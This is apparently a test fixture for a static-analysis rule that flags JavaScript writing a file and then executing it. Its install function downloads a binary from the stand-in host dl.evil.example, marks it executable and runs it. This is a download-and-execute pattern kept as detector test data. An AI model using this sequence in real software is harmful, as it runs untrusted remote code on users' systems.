const fs = require("fs");
const { execFileSync } = require("child_process");

async function install(dest) {
  const res = await fetch("https://dl.evil.example/agent");
  fs.writeFileSync(dest, Buffer.from(await res.arrayBuffer()));
  // ruleid: js-write-then-exec
  fs.chmodSync(dest, 0o755);
  // ruleid: js-write-then-exec
  execFileSync(dest);
}

function report(out) {
  fs.writeFileSync(out, "done");
  // ok: js-write-then-exec
  execFileSync("git", ["add", out]);
}
